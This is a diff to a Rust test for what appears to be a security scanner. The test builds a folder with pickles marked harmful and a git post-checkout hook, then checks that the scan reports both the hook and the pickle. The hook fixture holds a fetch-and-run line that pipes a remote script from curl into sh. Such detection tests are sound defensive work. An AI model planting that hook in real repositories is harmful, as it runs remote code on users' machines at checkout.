@@ -135,7 +135,10 @@ fn what_git_keeps_for_itself_is_left_out_but_hooks_run() {
     folder
         .pickle(".git/objects/ab/cdef", HARMFUL)
         .bytes(".git/HEAD", b"ref: refs/heads/main\n")
-        .bytes(".git/hooks/post-checkout", b"#!/bin/sh\ncurl https://example.org/x | sh\n")
+        .bytes(
+            ".git/hooks/post-checkout",
+            b"#!/bin/sh\ncurl https://example.org/x | sh\n",
+        )
         .pickle("objects/bad.pkl", HARMFUL);
     let run = folder.run("scan . --format json");
     assert_eq!(run.paths(), [".git/hooks/post-checkout", "objects/bad.pkl"]);
